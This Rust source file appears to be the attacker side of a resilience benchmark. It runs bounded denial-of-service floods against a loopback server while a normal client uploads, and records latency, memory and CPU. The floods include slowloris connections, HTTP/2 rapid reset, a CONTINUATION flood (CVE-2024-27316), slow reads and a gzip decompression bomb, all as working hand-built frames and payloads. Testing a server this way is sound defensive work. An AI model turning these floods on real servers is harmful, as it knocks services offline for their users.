//! The attackers of the attack benchmark, and the good client beside them: one flood after another,
//! each for a few seconds, against a server on loopback. Prints one JSON object: what the good client
//! saw during each flood, how far the server's memory grew, what it cost the server, and how much garbage
//! was sent, whose drops the benchmark counts.
//!
//! Every flood is bounded in connections and in time, and this process ends by itself.

#![expect(clippy::print_stdout, reason = "its output is its result")]

use anyhow::{Context as _, bail, ensure};
use clap::Parser;
use model::{Clock as _, SystemClock};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use serde_json::{Value, json};
use std::io::{self, Write as _};
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_util::sync::CancellationToken;

/// How often the server's memory is looked at.
const LOOK: Duration = Duration::from_millis(50);
/// How long the good client waits between two uploads.
const PAUSE: Duration = Duration::from_millis(20);
/// A URL that nobody knows, and that nothing but garbage asks for.
const GARBAGE: &str = "/garbage";
/// What lies between two bytes of whoever drips.
const MOMENT: Duration = Duration::from_millis(100);
/// Connections that a flood makes at a time.
const AT_A_TIME: usize = 4;
/// Streams at a time on one connection: as many as the server lets be.
const STREAMS: usize = 128;
/// Bytes of an answer that are read before the next one is asked for.
const ANSWER_BYTES: usize = 50;
/// Clock ticks a second in `/proc/PID/stat`: 100 on every Linux that Rust's standard library runs on.
const TICKS_A_SECOND: u64 = 100;

#[derive(Debug, Parser)]
struct Options {
    /// The api plane
    #[arg(long)]
    api: SocketAddr,
    /// The collect plane
    #[arg(long)]
    collect: SocketAddr,
    /// Certificates to trust, PEM
    #[arg(long)]
    ca: PathBuf,
    /// The server's process
    #[arg(long)]
    pid: u32,
    /// `ID:PASSCODE`
    #[arg(long)]
    account: String,
    /// Seconds of each flood
    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=60))]
    seconds: u64,
    /// Slow connections
    #[arg(long, default_value_t = 1_000, value_parser = clap::value_parser!(u64).range(1..=2_000))]
    slow: u64,
}

#[derive(Debug, Clone)]
struct Target {
    api: SocketAddr,
    collect: SocketAddr,
    account: (String, String),
    roots: Arc<RootCertStore>,
    slow: u64,
    /// Made before the clock starts: packing it takes seconds.
    bomb: Arc<Vec<u8>>,
    /// What has been done to the server.
    done: Arc<Done>,
}

/// Counts of what attackers have done.
#[derive(Debug, Default)]
struct Done {
    /// Bombs that were sent, or broke off.
    bombs: AtomicU64,
    /// Requests for a URL that nobody knows, each of which was reset.
    unknown_urls: AtomicU64,
    /// Heads that are none, each of which ended its connection.
    bare_lfs: AtomicU64,
}

#[derive(Debug, Clone, Copy)]
enum Flood {
    None,
    Slow,
    Drips,
    SlowReads,
    RapidReset,
    Continuation,
    Bombs,
    Garbage,
}

impl Flood {
    const ALL: [Self; 8] = [
        Self::None,
        Self::Slow,
        Self::Drips,
        Self::SlowReads,
        Self::RapidReset,
        Self::Continuation,
        Self::Bombs,
        Self::Garbage,
    ];

    const fn as_str(self) -> &'static str {
        match self {
            Self::None => "none",
            Self::Slow => "slow_clients",
            Self::Drips => "drips",
            Self::SlowReads => "slow_reads",
            Self::RapidReset => "rapid_reset",
            Self::Continuation => "continuation",
            Self::Bombs => "bombs",
            Self::Garbage => "garbage",
        }
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let options = Options::parse();
    ensure!(
        options.api.ip().is_loopback() && options.collect.ip().is_loopback(),
        "attacks go to a loopback address and nowhere else"
    );
    let (id, passcode) = options
        .account
        .split_once(':')
        .context("an account is ID:PASSCODE")?;
    let mut roots = RootCertStore::empty();
    for certificate in CertificateDer::pem_file_iter(&options.ca)? {
        roots.add(certificate?)?;
    }
    let target = Target {
        api: options.api,
        collect: options.collect,
        account: (id.to_owned(), passcode.to_owned()),
        roots: Arc::new(roots),
        slow: options.slow,
        bomb: Arc::new(bomb()),
        done: Arc::default(),
    };
    let bundle = reqwest::Certificate::from_pem_bundle(&std::fs::read(&options.ca)?)?;
    let good = Good {
        http: reqwest::Client::builder().tls_certs_only(bundle).build()?,
        url: format!("https://{}/1/upload", options.api),
        account: target.account.clone(),
        clock: Arc::new(SystemClock::new()),
    };
    // What the first requests load stays loaded.
    good.uploads(Duration::from_secs(1)).await?;
    let mut floods = Vec::new();
    for flood in Flood::ALL {
        floods.push(run(flood, &target, &good, &options).await?);
    }
    let worst = |field: &str| {
        floods
            .iter()
            .filter_map(|it| it.get(field).and_then(Value::as_f64))
            .fold(0.0, f64::max)
    };
    let is_bombs = |it: &&Value| it.get("flood").and_then(Value::as_str) == Some("bombs");
    let exploding = floods.iter().find(is_bombs);
    let cpu_ms = exploding.and_then(|it| it.get("cpu_ms")?.as_u64());
    let bombs = target.done.bombs.load(Ordering::Relaxed);
    let summary = json!({
        "p99_ms": worst("p99_ms"),
        "memory_growth_bytes": worst("memory_growth_bytes"),
        "bombs": bombs,
        "bomb_cpu_ms": cpu_ms.unwrap_or_default() / bombs.max(1),
        "seconds": options.seconds,
        "slow_connections": options.slow,
        "garbage": {
            "path": GARBAGE,
            "unknown_url": target.done.unknown_urls.load(Ordering::Relaxed),
            "bare_lf": target.done.bare_lfs.load(Ordering::Relaxed),
        },
        "floods": floods,
    });
    println!("{summary}");
    Ok(())
}

/// One flood, and the good client meanwhile.
async fn run(
    flood: Flood,
    target: &Target,
    good: &Good,
    options: &Options,
) -> anyhow::Result<Value> {
    let time = Duration::from_secs(options.seconds);
    let before = memory_bytes(options.pid)?;
    let cpu_before = cpu_ms(options.pid)?;
    let stop = CancellationToken::new();
    let workers = match flood {
        Flood::None => 0,
        Flood::Slow | Flood::Drips | Flood::SlowReads => 1,
        Flood::RapidReset | Flood::Continuation | Flood::Bombs | Flood::Garbage => AT_A_TIME,
    };
    let mut attackers = JoinSet::new();
    for _ in 0..workers {
        let (target, stop) = (target.clone(), stop.clone());
        attackers.spawn(async move { attack(flood, &target, &stop).await });
    }
    let watch = async {
        let mut most = before;
        loop {
            tokio::time::sleep(LOOK).await;
            most = memory_bytes(options.pid).unwrap_or(most).max(most);
            if stop.is_cancelled() {
                return most;
            }
        }
    };
    let serve = async {
        let seen = good.uploads(time).await;
        stop.cancel();
        seen
    };
    let (most, seen) = tokio::join!(watch, serve);
    while let Some(ended) = attackers.join_next().await {
        ended??;
    }
    let mut latencies = seen?;
    latencies.sort_unstable();
    let quantile = |share: usize| {
        let at = latencies.len() * share / 100;
        latencies.get(at).map_or(0.0, |it| it.as_secs_f64() * 1e3)
    };
    Ok(json!({
        "flood": flood.as_str(),
        "uploads": latencies.len(),
        "p50_ms": quantile(50),
        "p99_ms": quantile(99),
        "memory_growth_bytes": most.saturating_sub(before),
        "cpu_ms": cpu_ms(options.pid)?.saturating_sub(cpu_before),
    }))
}

/// A client that means well.
#[derive(Debug)]
struct Good {
    http: reqwest::Client,
    url: String,
    account: (String, String),
    clock: Arc<SystemClock>,
}

impl Good {
    /// Uploads one event after another for that long; how long each took.
    async fn uploads(&self, time: Duration) -> anyhow::Result<Vec<Duration>> {
        let started = self.clock.monotonic();
        let mut latencies = Vec::new();
        while self.clock.monotonic().saturating_sub(started) < time {
            let sent = self.clock.monotonic();
            let request = self
                .http
                .post(&self.url)
                .header("X-CleverTap-Account-Id", &self.account.0)
                .header("X-CleverTap-Passcode", &self.account.1)
                .body(r#"{"d":[{"type":"event","identity":"good","evtName":"Good"}]}"#);
            let answer = request.send().await?.error_for_status();
            answer
                .context("a good client was not served")?
                .bytes()
                .await?;
            latencies.push(self.clock.monotonic().saturating_sub(sent));
            tokio::time::sleep(PAUSE).await;
        }
        Ok(latencies)
    }
}

/// Attacks until it is stopped. What fails is tried again: the server cuts connections. Garbage alone is
/// counted, so it ends between two batches, and nobody cuts it.
async fn attack(flood: Flood, target: &Target, stop: &CancellationToken) -> anyhow::Result<()> {
    if matches!(flood, Flood::Garbage) {
        while !stop.is_cancelled() {
            garbage(target, stop).await?;
        }
        return Ok(());
    }
    let again = async {
        loop {
            let ended = match flood {
                Flood::None | Flood::Garbage => return,
                Flood::Slow => slow(target).await,
                Flood::Drips => drips(target).await,
                Flood::SlowReads => slow_reads(target).await,
                Flood::RapidReset => rapid_reset(target).await,
                Flood::Continuation => continuation(target).await,
                Flood::Bombs => explode(target).await,
            };
            drop(ended);
            tokio::task::yield_now().await;
        }
    };
    stop.run_until_cancelled(again).await;
    Ok(())
}

async fn connect(
    address: SocketAddr,
    target: &Target,
    protocol: &[u8],
) -> anyhow::Result<TlsStream<TcpStream>> {
    let mut config = ClientConfig::builder()
        .with_root_certificates(Arc::clone(&target.roots))
        .with_no_client_auth();
    config.alpn_protocols = vec![protocol.to_vec()];
    let tcp = TcpStream::connect(address).await?;
    let name = ServerName::try_from("localhost")?;
    Ok(TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await?)
}

/// Connections that begin a request and do not end it; a part of them does not even do that.
async fn slow(target: &Target) -> anyhow::Result<()> {
    let mut held = Vec::new();
    let mut plain = Vec::new();
    for number in 0..target.slow {
        if number % 2 == 0 {
            plain.push(TcpStream::connect(target.collect).await);
        } else if let Ok(mut tls) = connect(target.api, target, b"http/1.1").await {
            drop(tls.write_all(b"POST /1/upload HTTP/1.1\r\nHost: loc").await);
            held.push(tls);
        }
    }
    std::future::pending().await
}

/// Connections that send a byte now and then: every second one of a head, the others of a body. They are
/// strangers: an account's own uploads would keep each other waiting.
async fn drips(target: &Target) -> anyhow::Result<()> {
    let mut drips = JoinSet::new();
    for number in 0..target.slow {
        let Ok(tls) = connect(target.api, target, b"http/1.1").await else {
            continue;
        };
        let last = match number % 2 {
            0 => "X: ",
            _ => "Content-Length: 1000000\r\n\r\n",
        };
        drips.spawn(drip(tls, last));
    }
    all(drips).await
}

async fn drip(mut tls: TlsStream<TcpStream>, last: &'static str) -> io::Result<()> {
    let start = format!("POST /1/upload HTTP/1.1\r\nHost: localhost\r\n{last}");
    tls.write_all(start.as_bytes()).await?;
    loop {
        tls.write_all(b" ").await?;
        tls.flush().await?;
        tokio::time::sleep(MOMENT).await;
    }
}

/// Connections that let a byte now and then of their answers come.
async fn slow_reads(target: &Target) -> anyhow::Result<()> {
    let mut reads = JoinSet::new();
    for _ in 0..target.slow {
        let Ok(tls) = http2(target.api, target).await else {
            continue;
        };
        reads.spawn(sip(tls));
    }
    all(reads).await
}

/// Asks for as many answers at a time as a connection may, and lets a byte now and then of one come.
async fn sip(mut tls: TlsStream<TcpStream>) -> io::Result<()> {
    tls.write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
    for first in (1..u32::MAX / 2).step_by(2 * STREAMS) {
        let streams = (first..).step_by(2).take(STREAMS);
        for stream in streams.clone() {
            tls.write_all(&request(stream, "/1/now.json")).await?;
        }
        for stream in streams {
            for _ in 0..ANSWER_BYTES {
                tls.write_all(&frame(8, 0, stream, &[0, 0, 0, 1])).await?;
                tls.flush().await?;
                tokio::time::sleep(MOMENT).await;
            }
        }
    }
    Ok(())
}

/// Waits until each connection has been cut off.
async fn all(mut connections: JoinSet<io::Result<()>>) -> anyhow::Result<()> {
    while let Some(ended) = connections.join_next().await {
        // How it ended is the server's affair.
        drop(ended?);
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame: Vec<u8> = length.into_iter().skip(1).collect();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Short header fields as literals of HPACK.
fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    }
    block
}

/// A request of localhost.
fn request(stream: u32, path: &str) -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
    ];
    frame(1, 5, stream, &block(&fields))
}

async fn http2(address: SocketAddr, target: &Target) -> anyhow::Result<TlsStream<TcpStream>> {
    let mut tls = connect(address, target, b"h2").await?;
    tls.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    tls.write_all(&frame(4, 0, 0, &[])).await?;
    Ok(tls)
}

async fn rapid_reset(target: &Target) -> anyhow::Result<()> {
    let mut tls = http2(target.collect, target).await?;
    let mut stream = 1;
    loop {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(request(stream, "/x"));
            bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
            stream += 2;
        }
        tls.write_all(&bytes).await?;
        tls.flush().await?;
    }
}

/// A head that does not end (CVE-2024-27316).
async fn continuation(target: &Target) -> anyhow::Result<()> {
    let mut tls = http2(target.collect, target).await?;
    let head = block(&[(":method", "GET"), (":scheme", "https"), (":path", "/x")]);
    tls.write_all(&frame(1, 1, 1, &head)).await?;
    let more = frame(9, 0, 1, &block(&[("x", "y")])).repeat(100);
    loop {
        tls.write_all(&more).await?;
        tls.flush().await?;
    }
}

/// Ten million zeros to the kilobyte, over and over: 10 MiB that would unpack to 10 GiB.
fn bomb() -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        // Writing to memory does not fail.
        drop(encoder.write_all(&vec![0; 1 << 20]));
    }
    encoder.finish().unwrap_or_default().repeat(160)
}

async fn explode(target: &Target) -> anyhow::Result<()> {
    let bomb = target.bomb.as_slice();
    let mut tls = connect(target.api, target, b"http/1.1").await?;
    let head = format!(
        "POST /1/upload HTTP/1.1\r\nHost: localhost\r\nX-CleverTap-Account-Id: {}\r\n\
         X-CleverTap-Passcode: {}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        target.account.0,
        target.account.1,
        bomb.len()
    );
    target.done.bombs.fetch_add(1, Ordering::Relaxed);
    tls.write_all(head.as_bytes()).await?;
    tls.write_all(bomb).await?;
    tls.flush().await?;
    Ok(())
}

/// Unknown URLs, and what is not HTTP at all. What was counted here was dropped, and nothing else was sent.
async fn garbage(target: &Target, stop: &CancellationToken) -> anyhow::Result<()> {
    const BATCH: u32 = 50;
    let mut tls = connect(target.collect, target, b"http/1.1").await?;
    tls.write_all(b"GET / HTTP/1.1\nHost: x\n\n\0\0\0").await?;
    tls.flush().await?;
    let mut said = Vec::new();
    // Ended well or not: it has.
    drop(tls.read_to_end(&mut said).await);
    ensure!(said.is_empty(), "garbage was answered");
    target.done.bare_lfs.fetch_add(1, Ordering::Relaxed);
    let mut tls = http2(target.collect, target).await?;
    for batch in 0..100 {
        if stop.is_cancelled() {
            break;
        }
        let streams = (batch * BATCH..(batch + 1) * BATCH).map(|number| number * 2 + 1);
        let bytes: Vec<u8> = streams.flat_map(|it| request(it, GARBAGE)).collect();
        tls.write_all(&bytes).await?;
        tls.flush().await?;
        for _ in 0..BATCH {
            reset(&mut tls).await?;
        }
        let count = u64::from(BATCH);
        target.done.unknown_urls.fetch_add(count, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Reads to the next frame that resets a stream. The others say how the connection is.
async fn reset(tls: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
    loop {
        let mut head = [0; 9];
        tls.read_exact(&mut head).await?;
        let [a, b, c, kind, ..] = head;
        let length = usize::try_from(u32::from_be_bytes([0, a, b, c]))?;
        let mut payload = vec![0; length];
        tls.read_exact(&mut payload).await?;
        match kind {
            3 => return Ok(()),
            4 | 6 | 8 => {}
            _ => bail!("garbage was answered by a frame of kind {kind}"),
        }
    }
}

/// Resident memory of a process.
fn memory_bytes(pid: u32) -> anyhow::Result<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    let line = status
        .lines()
        .find(|line| line.starts_with("VmRSS:"))
        .context("the kernel does not say how much memory is used")?;
    let kib: u64 = line
        .split_whitespace()
        .nth(1)
        .context("a number is missing")?
        .parse()?;
    Ok(kib * 1_024)
}

/// User and system time of a process so far, milliseconds.
fn cpu_ms(pid: u32) -> anyhow::Result<u64> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat"))?;
    // The command's name is in parentheses and may hold anything: fields are counted after it.
    let fields = stat.rsplit(')').next().unwrap_or_default();
    let ticks = fields.split_whitespace().skip(11).take(2);
    let ticks: u64 = ticks.filter_map(|it| it.parse::<u64>().ok()).sum();
    Ok(ticks * 1_000 / TICKS_A_SECOND)
}
